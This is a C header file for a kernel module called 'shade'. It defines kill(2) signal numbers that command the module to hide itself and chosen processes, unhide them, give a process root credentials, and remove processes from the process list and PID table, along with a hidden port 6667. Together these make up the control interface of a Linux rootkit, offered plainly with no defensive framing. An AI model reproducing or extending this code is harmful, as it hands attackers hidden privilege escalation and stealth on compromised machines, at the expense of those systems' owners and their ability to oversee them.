/* What the module `shade` takes signals for, when kill(2) is called with one of these numbers: what it shall do with the process, or,
   whatever the process, with itself. */
#pragma once

#define ORDER_HIDE 58     /* everything that was ordered to be hidden, the module included */
#define ORDER_SHOW 59     /* all of it again, but the module's folder in sysfs */
#define ORDER_ELEVATE 60  /* lets the process act with root's credentials */
#define ORDER_UNLIST 61   /* out of the list of processes, when it comes to hiding */
#define ORDER_UNNUMBER 62 /* and out of the table of process numbers */

#define HIDDEN_PORT 6667
